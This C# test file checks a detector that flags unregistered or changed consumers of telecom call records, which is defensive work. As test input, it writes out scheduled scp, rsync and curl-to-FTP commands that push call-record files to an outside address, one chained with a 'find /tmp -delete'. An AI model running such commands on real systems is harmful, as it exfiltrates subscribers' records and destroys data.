using System.Net;
using Breakwater.Detection.RecordAccess;
using Breakwater.Detection.RecordConsumers;
using Breakwater.Detection.Tests.RecordAccess;
using Breakwater.Detection.Tests.Support;
using Breakwater.Model.Findings;
using Breakwater.Model.Inventory;
using static Breakwater.Detection.Tests.RecordConsumers.ConsumerEvidence;

namespace Breakwater.Detection.Tests.RecordConsumers;

public sealed class RecordConsumerTests
{
    private static readonly CarrierInventory Known = With(Billing, Fraud, Replica);

    [Fact]
    public void Registered_consumers_that_fetch_every_day_are_quiet() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 60)
                .Fetches("svc_fraud", "192.0.2.21", 60)
                .Judge(With(Billing, Fraud))
        );

    [Fact]
    public void Somebody_who_fetches_on_three_days_is_an_additional_consumer()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 20)
                .Fetches("ops7", "192.0.2.99", 3, 5)
                .Judge(With(Billing))
        );

        Assert.Equal("record_consumers:additional_consumer", finding.Rule.Id);
        Assert.Contains(
            "ops7 from 192.0.2.99 fetched files of call records of mediation on 3 days",
            finding.Summary,
            StringComparison.Ordinal
        );
        Assert.Equal(["T83d"], finding.Behaviours);
    }

    [Fact]
    public void Somebody_who_fetches_once_is_an_export_and_no_consumer() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 20)
                .Fetch(Start, "ops7", "192.0.2.99")
                .Judge(With(Billing))
        );

    [Fact]
    public void A_registered_account_from_another_address_is_a_changed_consumer_at_once()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 20)
                .Fetch(Start.AddDays(9), "svc_bill", "192.0.2.99")
                .Judge(With(Billing))
        );

        Assert.Equal("record_consumers:changed_consumer", finding.Rule.Id);
        Assert.Contains("the address 192.0.2.99", finding.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_consumer_that_moved_and_was_registered_anew_within_the_grace_is_quiet()
    {
        RecordConsumer old = Billing with { ValidTo = At(10) };
        RecordConsumer moved = Billing with { Addresses = [IPAddress.Parse("192.0.2.99")], ValidFrom = At(12) };

        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 10)
                .Fetches("svc_bill", "192.0.2.99", 20, 10)
                .Judge(With(old, moved))
        );
    }

    [Fact]
    public void A_consumer_that_goes_on_after_its_registration_ended_is_told_with_the_end()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence().Fetches("svc_bill", "192.0.2.20", 40).Judge(With(Billing with { ValidTo = At(20) }))
        );

        Assert.Equal("record_consumers:ended_consumer", finding.Rule.Id);
        Assert.Contains("ended on 2026-09-21", finding.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_replica_that_nobody_took_away_when_its_registration_ended_is_told() =>
        Assert.Equal(
            "record_consumers:ended_consumer",
            Assert
                .Single(
                    new ConsumerEvidence()
                        .Statement(Start, "dba", "SELECT pg_create_logical_replication_slot('report_slot', 'pgoutput')")
                        .Statement(
                            Start.AddDays(60),
                            "dba",
                            "SELECT pg_create_logical_replication_slot('other', 'pgoutput')"
                        )
                        .Judge(With(Replica with { ValidTo = At(20) }, Replica with { Names = ["other"] }))
                )
                .Rule.Id
        );

    [Fact]
    public void A_replica_that_was_taken_away_in_time_is_quiet() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Statement(Start, "dba", "SELECT pg_create_logical_replication_slot('report_slot', 'pgoutput')")
                .Statement(Start.AddDays(19), "dba", "SELECT pg_drop_replication_slot('report_slot')")
                .Statement(Start.AddDays(60), "dba", "SELECT pg_create_logical_replication_slot('other', 'pgoutput')")
                .Judge(With(Replica with { ValidTo = At(20) }, Replica with { Names = ["other"] }))
        );

    [Fact]
    public void A_consumer_that_stopped_while_others_went_on_is_dormant()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 90)
                .Fetches("svc_fraud", "192.0.2.21", 20)
                .Judge(With(Billing, Fraud))
        );

        Assert.Equal("record_consumers:dormant_consumer", finding.Rule.Id);
        Assert.Equal(Level.Low, finding.Level);
        Assert.Contains("took none after 2026-09-20", finding.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_monthly_consumer_is_not_dormant_between_two_months() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 200)
                .Fetches("svc_fraud", "192.0.2.21", 160, every: 30)
                .Judge(With(Billing, Fraud))
        );

    [Fact]
    public void A_consumer_that_was_never_seen_where_others_are_is_missing()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence().Fetches("svc_bill", "192.0.2.20", 30).Judge(With(Billing, Fraud))
        );

        Assert.Equal("record_consumers:missing_consumer", finding.Rule.Id);
        Assert.Equal(Level.Low, finding.Level);
    }

    [Fact]
    public void A_consumer_is_not_missing_in_a_log_of_some_days_or_of_another_kind() =>
        Assert.Empty(new ConsumerEvidence().Fetches("svc_bill", "192.0.2.20", 6).Judge(With(Billing, Fraud, Replica)));

    [Theory]
    [InlineData("scp /data/cdr/*.dat sync@203.0.113.9:/in/")]
    [InlineData("/usr/bin/rsync -a /data/cdr/ sync@203.0.113.9:/in")]
    [InlineData("find /tmp -delete; curl -s -T /data/cdr/last.dat ftp://203.0.113.9/in/")]
    public void A_scheduled_push_of_record_files_is_an_additional_consumer(string command)
    {
        Finding finding = Assert.Single(new ConsumerEvidence().Scheduled(Start, command).Judge(With(Billing)));

        Assert.Equal("record_consumers:additional_consumer", finding.Rule.Id);
        Assert.Contains("203.0.113.9", finding.Summary, StringComparison.Ordinal);
    }

    [Theory]
    // To a registered consumer.
    [InlineData("scp /data/cdr/*.dat svc@192.0.2.20:/in/", "med1")]
    // From elsewhere to here.
    [InlineData("scp svc@203.0.113.9:/rates/today.csv /data/rates/", "med1")]
    // Inside one host.
    [InlineData("rsync -a /data/cdr/ /backup/cdr/", "med1")]
    // Other files of another host.
    [InlineData("scp /var/www/*.html web@203.0.113.9:/in/", "web1")]
    [InlineData("curl -s https://203.0.113.9/health", "med1")]
    public void Other_scheduled_commands_are_quiet(string command, string host) =>
        Assert.Empty(new ConsumerEvidence().Scheduled(Start, command, host).Judge(With(Billing)));

    [Fact]
    public void A_client_program_that_copies_databases_is_an_additional_consumer_when_it_comes_on_three_days()
    {
        StoreLog log = new StoreLog().Habit("report", Start.Date);
        for (int day = 0; day < 3; day++)
        {
            log.Add(
                Start.AddDays(day),
                "svc_sync",
                "SELECT * FROM cdr.calls WHERE started > 0",
                900,
                "203.0.113.9",
                "Airbyte JDBC"
            );
        }

        RecordConsumerDetector consumers = Detector(Known);
        using RecordAccessDetector accesses = StoreLog.Detector(Known);
        consumers.Follow(accesses);
        DetectorRun.Of(accesses, log.Events);

        Finding finding = Assert.Single(DetectorRun.Of(consumers, []));
        Assert.Contains("client program that copies by itself (Airbyte)", finding.Summary, StringComparison.Ordinal);
        Assert.Equal(Level.Medium, finding.Level);
    }

    [Fact]
    public void Without_a_register_nothing_is_judged_and_that_is_said()
    {
        CarrierInventory unlisted = Known with { CallRecords = Known.CallRecords! with { Consumers = null } };
        ConsumerEvidence evidence = new ConsumerEvidence()
            .Fetches("ops7", "192.0.2.99", 9)
            .Statement(Start, "dba", "CREATE PUBLICATION p FOR ALL TABLES");

        Assert.Empty(evidence.Judge(unlisted));
        string gap = Assert.Single(evidence.NotAssessable);
        Assert.Contains(
            "1 standing takers (publication for logical replication) and 1 that fetch files",
            gap,
            StringComparison.Ordinal
        );
    }

    [Fact]
    public void A_store_known_by_its_name_alone_is_told_at_medium_at_most()
    {
        CarrierInventory unlisted = new() { CallRecords = new CallRecords { Consumers = [] } };

        Finding finding = Assert.Single(new ConsumerEvidence().Fetches("ops7", "192.0.2.99", 9).Judge(unlisted));

        Assert.Equal(Level.Medium, finding.Level);
    }

    [Theory]
    [InlineData(3, 1)]
    [InlineData(11, 4)]
    public void The_order_of_files_and_the_number_of_threads_change_nothing(int seed, int workers)
    {
        ConsumerEvidence evidence = new ConsumerEvidence()
            .Fetches("svc_bill", "192.0.2.20", 60)
            .Fetches("ops7", "192.0.2.99", 9, 3)
            .Statement(Start, "dba", "SELECT pg_create_physical_replication_slot('s9')")
            .Replication(Start.AddHours(1), "wal", "START_REPLICATION SLOT \"s9\" 0/0", "203.0.113.9")
            .Scheduled(Start, "scp /data/cdr/*.dat sync@203.0.113.10:/in/");

        Assert.Equal(
            evidence.Judge(Known).Select(DetectorRun.Show),
            evidence.Judge(Known, seed, workers).Select(DetectorRun.Show)
        );
    }

    private static DateTimeOffset At(int day) => new(Start.AddDays(day).Date, TimeSpan.Zero);
}
